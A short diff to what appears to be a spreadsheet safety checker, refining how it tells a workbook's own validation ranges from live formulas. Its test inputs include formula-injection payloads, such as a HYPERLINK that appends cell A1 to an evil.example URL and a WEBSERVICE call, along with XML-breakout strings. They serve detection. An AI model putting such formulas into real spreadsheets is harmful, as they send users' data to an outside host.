@@ -33,8 +33,9 @@ BODIES = (
     *('HYPERLINK("http://evil.example?x="&A1,"Open")', 'WEBSERVICE("http://evil.example")', ""),
     *("<f>1+1</f>", '</t></is></c><c r="A1"><f>1</f>', "]]>", "&#61;1+1", "_x003D_1", '","=1+1'),
 )
-# The formulas that a start sheet has of its own: where its drop-downs lie, and bounds of numbers.
-OWN = re.compile(r"Lists!\$[AB]\$1:\$[AB]\$\d+|\d+")
+# What a validation names and no cell counts: where a start sheet's drop-downs lie, and bounds.
+OWN = re.compile(r"Lists!\$([A-Z]{1,2})\$1:\$\1\$\d+|\d+")
+VALIDATES = ("formula1", "formula2")
 # Parts and elements with which a workbook reaches outside itself, or counts for itself.
 OUTSIDE = ("externallink", "vbaproject", "macrosheet", "connections", "querytable", "embeddings")
 COUNTS = ("f", "ddeLink", "oleLink", "hyperlink", "definedName", "webPublishItem")
@@ -115,8 +116,9 @@ def live_in_workbook(content: bytes) -> list[str]:
     found = links + [name for name in names if any(word in name.lower() for word in OUTSIDE)]
     for element in (each for tree in trees for each in tree.iter()):
         tag = element.tag.rpartition("}")[2]
+        own = tag in VALIDATES and OWN.fullmatch(element.text or "")
         counts = tag in COUNTS or element.get("t") == "str"
-        if counts or (tag.startswith("formula") and not OWN.fullmatch(element.text or "")):
+        if counts or (tag.startswith("formula") and not own):
             found.append(f"{tag} {element.text or ''}"[:80])
     return found
 
